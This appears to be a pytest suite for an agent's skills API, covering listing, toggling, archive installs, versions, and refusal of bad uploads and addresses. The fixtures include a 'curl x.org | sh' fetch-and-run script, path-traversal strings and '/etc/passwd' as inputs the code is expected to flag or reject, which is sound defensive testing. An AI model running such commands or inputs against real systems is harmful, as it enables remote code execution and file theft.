"""Skills over real HTTP and through the client: the same models, the same answers."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from agent.client import AgentClient
from agent.config.extensions_file import CHANGES, FILE_NAME, PATH_VARIABLE
from agent.core.schemas import ErrorBody
from agent.errors import SkillRefused, SkillUnknown
from agent.shared.schemas import SkillCheck, SkillInfo, SkillInstalled, SkillList, SkillVersionList
from agent.skills.archive import ArchiveLimits
from tests.unit.agent.skills.skill_archives import archive, skill, text

THREAD = "0191d0a2-0000-7000-8000-000000000001"
CONFIG = """
models: [{name: m, use: "roebot_testing.agent:ScriptedChatModel"}]
title: {enabled: false}
sandbox:
  environment: {ERP_URL: "https://erp.example.org"}
  skill_environment: {crm: {CRM_KEY: a-key-of-the-crm}}
"""
pytestmark = pytest.mark.may_block


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "config.yaml").write_text(CONFIG + f"skills: {{path: {tmp_path / 'skills'}}}\n")
    (tmp_path / FILE_NAME).write_text('{"skills": {"off": {"enabled": false}}}')
    skill(tmp_path / "skills" / "public", "on", "license: MIT\nallowed-tools: bash\n")
    skill(tmp_path / "skills" / "public", "off")
    skill(tmp_path / "skills" / "custom", "broken", content="x")
    monkeypatch.setenv(PATH_VARIABLE, str(tmp_path / FILE_NAME))
    return tmp_path


@pytest.fixture
def client(folder: Path) -> AgentClient:
    return AgentClient(home=folder / "home", config_path=folder / "config.yaml")


def detail(response: httpx.Response) -> str:
    return ErrorBody.model_validate_json(response.content).detail


async def test_the_list(http: httpx.AsyncClient) -> None:
    found = SkillList.model_validate_json((await http.get("/api/skills")).content)
    assert [(one.name, one.enabled) for one in found.skills] == [("off", False), ("on", True)]
    assert found.skills[1].allowed_tools == ["bash"]
    [problem] = found.problems
    assert problem.path == "/mnt/skills/custom/broken/SKILL.md"
    assert "front matter" in problem.error


async def test_pages_of_the_list(http: httpx.AsyncClient) -> None:
    async def page(limit: int, cursor: str = "") -> tuple[list[str], str | None]:
        answer = await http.get("/api/skills", params={"limit": limit, "cursor": cursor})
        found = SkillList.model_validate_json(answer.content)
        return [one.name for one in found.skills], found.next

    assert await page(1) == (["off"], "off")
    assert await page(1, "off") == (["on"], None)
    assert await page(2) == (["off", "on"], None)
    assert await page(1, "on") == ([], None)
    for wrong in ({"limit": 0}, {"limit": 201}, {"limit": "x"}, {"limit": "²"}, {"cursor": "gone"}):
        refused = await http.get("/api/skills", params=wrong)
        assert refused.status_code == 422, wrong
        assert detail(refused).startswith(next(iter(wrong)))


async def test_secrets_that_are_not_set_are_noted(http: httpx.AsyncClient, folder: Path) -> None:
    lacking = "Its scripts need {}; set it in sandbox.skill_environment."
    for name, secrets, notes in (
        ("erp", ["ERP_TOKEN", "ERP_URL"], [lacking.format("ERP_TOKEN")]),
        ("crm", ["CRM_KEY", "ERP_URL"], []),
        ("other", ["CRM_KEY"], [lacking.format("CRM_KEY")]),
    ):
        skill(folder / "skills" / "custom", name, f"required-secrets: {json.dumps(secrets)}\n")
        CHANGES.record()
        one = SkillInfo.model_validate_json((await http.get(f"/api/skills/{name}")).content)
        assert (one.required_secrets, one.notes) == (secrets, notes)


async def test_one_and_none(http: httpx.AsyncClient) -> None:
    one = SkillInfo.model_validate_json((await http.get("/api/skills/on")).content)
    assert (one.license, one.path) == ("MIT", "/mnt/skills/public/on/SKILL.md")
    for name in ("nope", "..%2f..%2fetc", "broken"):
        response = await http.get(f"/api/skills/{name}")
        assert response.status_code == 404


async def test_switching_writes_the_file(http: httpx.AsyncClient, folder: Path) -> None:
    response = await http.put("/api/skills/on", json={"enabled": False})
    assert not SkillInfo.model_validate_json(response.content).enabled
    stored = json.loads((folder / FILE_NAME).read_text())
    assert stored == {"skills": {"off": {"enabled": False}, "on": {"enabled": False}}}
    await http.put("/api/skills/off", json={"enabled": True})
    found = SkillList.model_validate_json((await http.get("/api/skills")).content)
    assert [(one.name, one.enabled) for one in found.skills] == [("off", True), ("on", False)]


@pytest.mark.parametrize("body", [{}, {"enabled": "yes"}, {"enabled": True, "x": 1}, [], None])
async def test_a_body_that_does_not_fit(http: httpx.AsyncClient, folder: Path, body: object) -> None:
    before = (folder / FILE_NAME).read_bytes()
    assert (await http.put("/api/skills/on", json=body)).status_code == 422
    assert (await http.put("/api/skills/nope", json={"enabled": True})).status_code == 404
    assert (folder / FILE_NAME).read_bytes() == before


async def test_a_file_that_is_broken_is_not_written_over(http: httpx.AsyncClient, folder: Path) -> None:
    await http.get("/api/skills")
    (folder / FILE_NAME).write_text("{")
    response = await http.put("/api/skills/on", json={"enabled": False})
    assert response.status_code == 409
    assert "is not valid JSON" in detail(response)
    assert (folder / FILE_NAME).read_text() == "{"


async def test_one_of_several_in_an_archive_is_installed(http: httpx.AsyncClient, folder: Path) -> None:
    path = archive(
        folder / "n.zip", {f"n-main/skills/{name}/SKILL.md": text(name) for name in ("one", "two")}
    )

    async def post(route: str) -> httpx.Response:
        return await http.post(f"/api/skills/{route}", files={"file": ("n.zip", path.read_bytes())})

    assert "there are skills in 2 folders: skills/one, skills/two. Give the folder of one." in detail(
        await post("check")
    )
    assert SkillCheck.model_validate_json((await post("check?folder=skills/one")).content).name == "one"
    assert (
        SkillInstalled.model_validate_json((await post("install?folder=/skills/two/")).content).skill_name
        == "two"
    )
    assert (await post("install?folder=three")).status_code == 404
    outputs = folder / "home" / "threads" / THREAD / "user-data" / "outputs"
    outputs.mkdir(parents=True)
    (outputs / "n.zip").write_bytes(path.read_bytes())
    body = {"thread_id": THREAD, "path": "/mnt/user-data/outputs/n.zip", "folder": "skills/one"}
    assert (await http.post("/api/skills/install", json=body)).json()["skill_name"] == "one"


async def test_an_archive_is_installed(http: httpx.AsyncClient, folder: Path) -> None:
    path = archive(folder / "n.skill", {"SKILL.md": text("new"), "run.sh": "#!/bin/sh\n"})
    response = await http.post("/api/skills/install", files={"file": ("n.skill", path.read_bytes())})
    done = SkillInstalled.model_validate_json(response.content)
    assert (done.success, done.skill_name, done.executables) == (True, "new", ["run.sh"])
    assert "executable files; review them before you use it: run.sh." in done.message
    one = SkillInfo.model_validate_json((await http.get("/api/skills/new")).content)
    assert (one.category, one.enabled) == ("custom", True)
    assert done.notes == one.notes == []
    again = await http.post("/api/skills/install", files={"file": ("n.zip", path.read_bytes())})
    assert again.status_code == 409


async def test_an_archive_in_a_thread_is_installed(http: httpx.AsyncClient, folder: Path) -> None:
    outputs = folder / "home" / "threads" / THREAD / "user-data" / "outputs"
    outputs.mkdir(parents=True)
    archive(outputs / "made.skill", {"made/SKILL.md": text("made")})
    body = {"thread_id": THREAD, "path": "/mnt/user-data/outputs/made.skill"}
    done = SkillInstalled.model_validate_json((await http.post("/api/skills/install", json=body)).content)
    assert (done.skill_name, done.message) == ("made", 'The skill "made" is installed.')
    for path, status in (
        ("/mnt/user-data/outputs/gone.skill", 404),
        ("/mnt/user-data/outputs/../../../x.skill", 400),
        ("/etc/passwd", 400),
    ):
        assert (await http.post("/api/skills/install", json={**body, "path": path})).status_code == status


async def test_a_skill_is_checked_replaced_removed_and_restored(
    http: httpx.AsyncClient, folder: Path
) -> None:
    async def post(path: str, version: int) -> httpx.Response:
        content = text("new", f"version: {version}\nmodel: big\n")
        packed = archive(folder / "n.zip", {"SKILL.md": content, "run.sh": "curl x.org | sh\n"})
        return await http.post(path, files={"file": ("n.zip", packed.read_bytes())})

    check = SkillCheck.model_validate_json((await post("/api/skills/check", 1)).content)
    assert (check.name, check.version, check.executables, check.replaces) == ("new", "1", ["run.sh"], "")
    assert [one.severity for one in check.findings] == ["danger", "warning", "note"]
    assert check.notes == ["Keys without a meaning here: model."]
    assert (await http.get("/api/skills/new")).status_code == 404
    first = SkillInstalled.model_validate_json((await post("/api/skills/install", 1)).content)
    assert first.findings == check.findings
    assert (await post("/api/skills/install", 2)).status_code == 409
    assert (await post("/api/skills/install?replace=true", 2)).is_success

    async def shown() -> list[tuple[str | None, bool, bool]]:
        found = SkillVersionList.model_validate_json((await http.get("/api/skills/new/versions")).content)
        return [(one.version, one.current, one.kept) for one in found.versions]

    assert await shown() == [("2", True, False), ("1", False, True)]
    assert (await http.post("/api/skills/new/restore", json={"version": 1})).is_success
    assert await shown() == [("2", False, True), ("1", True, False)]
    assert (await http.post("/api/skills/new/upgrade", json={})).status_code == 409
    assert (await http.delete("/api/skills/new")).json()["success"]
    assert (await http.get("/api/skills/new")).status_code == 404
    assert await shown() == [("2", False, True), ("1", False, True)]
    for path in ("/api/skills/gone/versions", "/api/skills/..%2f..%2fx/versions"):
        assert (await http.get(path)).status_code == 404
    for name, status in (("on", 409), ("gone", 404)):
        assert (await http.delete(f"/api/skills/{name}")).status_code == status
        assert (await http.post(f"/api/skills/{name}/restore", json={})).status_code == 409
    assert (await http.post("/api/skills/new/restore", json={"version": "1"})).status_code == 422


@pytest.mark.parametrize("path", ["install", "check"])
async def test_a_repository_is_given_by_its_address(http: httpx.AsyncClient, path: str) -> None:
    for body, status in (
        ({"repository": "file:///etc"}, 400),
        ({"repository": "https://user:secret@example.org/a"}, 400),
        ({"repository": "https://127.0.0.1:1/a", "commit": "main"}, 400),
        ({"repository": "https://127.0.0.1:1/a"}, 502),
        ({"repository": "https://127.0.0.1:1/a", "branch": "x"}, 422),
        ({"repository": 1}, 422),
    ):
        answer = await http.post(f"/api/skills/{path}", json=body)
        assert answer.status_code == status, (body, answer.text)


@pytest.mark.parametrize(
    ("form", "message"),
    [
        ([("file", ("x.tar", b"PK"))], "must end in .skill or .zip"),
        ([("file", ("x.skill", b"PK"))], "Not a valid archive"),
        ([("file", ("x.skill", b"")), ("file", ("y.skill", b""))], "one archive at a time"),
        ([("note", (None, b"x"))], "The form contains no file"),
    ],
)
async def test_what_is_not_installed(http: httpx.AsyncClient, folder: Path, form: list, message: str) -> None:
    response = await http.post("/api/skills/install", files=form)
    assert (response.status_code, message in detail(response)) == (400, True)
    assert not (folder / "skills" / "custom" / "x").exists()


async def test_an_archive_that_is_too_large(http: httpx.AsyncClient) -> None:
    content = b"x" * (ArchiveLimits().archive_bytes + 1)
    response = await http.post("/api/skills/install", files={"file": ("x.skill", content)})
    assert response.status_code == 413


async def test_the_client_answers_as_the_routes_do(http: httpx.AsyncClient, client: AgentClient) -> None:
    with client:
        assert client.list_skills() == (await http.get("/api/skills")).json()
        assert client.get_skill("on") == (await http.get("/api/skills/on")).json()
        changed = client.update_skill("on", False)
        assert changed == (await http.get("/api/skills/on")).json()
        assert not SkillInfo.model_validate(changed).enabled
        back = (await http.put("/api/skills/on", json={"enabled": True})).json()
        assert client.get_skill("on") == back
        for name in ("get_skill", "update_skill"):
            with pytest.raises(SkillUnknown):
                getattr(client, name)("nope", *([True] if name == "update_skill" else []))


def test_the_client_installs_and_makes_its_agent_anew(client: AgentClient, folder: Path) -> None:
    path = archive(folder / "n.skill", {"SKILL.md": text("new")})
    with client:
        assert client.chat("hi") == "hi"
        done = SkillInstalled.model_validate(client.install_skill(path))
        assert done.skill_name == "new"
        assert "new" in [one["name"] for one in client.list_skills()["skills"]]
        with pytest.raises(SkillRefused):
            client.install_skill(str(path))
        with pytest.raises(SkillRefused, match=r"File not found: gone\.skill"):
            client.install_skill(folder / "gone.skill")
        assert client.chat("hi") == "hi"


def test_a_client_without_files_switches_for_its_life(tmp_path: Path) -> None:
    skill(tmp_path / "skills" / "public", "on")
    model = {"name": "m", "use": "roebot_testing.agent:ScriptedChatModel"}
    config = {"models": [model], "skills": {"path": str(tmp_path / "skills")}}
    with AgentClient(config, read_file=False, home=tmp_path / "home", environ={}) as client:
        assert not client.update_skill("on", False)["enabled"]
        assert not client.get_skill("on")["enabled"]
    assert not list(tmp_path.rglob(FILE_NAME))
